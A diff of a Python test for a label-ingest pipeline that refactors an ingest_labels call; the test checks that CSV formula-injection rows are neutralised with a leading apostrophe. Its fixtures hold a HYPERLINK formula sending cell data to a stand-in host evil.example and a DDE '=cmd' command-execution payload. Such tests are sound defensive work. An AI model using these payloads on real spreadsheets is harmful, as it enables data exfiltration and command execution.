@@ -99,9 +99,7 @@ def test_rejected_rows_are_no_formulas():
     rows = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "x" * 70_000]
     frame = pd.DataFrame({"prediction_id": rows, "label": ["=cmd|'/C calc'!A0", "-1", "1"]})
     stores.data.put("labels/incoming/evil.csv", frame.to_csv(index=False).encode())
-    ingest_labels(
-        stores.labels, stores.pointer, stores.models, Upload(key="labels/incoming/evil.csv", size=1, uploaded_at=NOW)
-    )
+    ingest_labels(stores, Upload(key="labels/incoming/evil.csv", size=1, uploaded_at=NOW))
     (key,) = stores.data.keys("labels/rejected/")
     refused = pd.read_csv(pd.io.common.BytesIO(stores.data.get(key).body), dtype=str)
     assert list(refused["prediction_id"])[:2] == ["'" + rows[0], "'" + rows[1]]
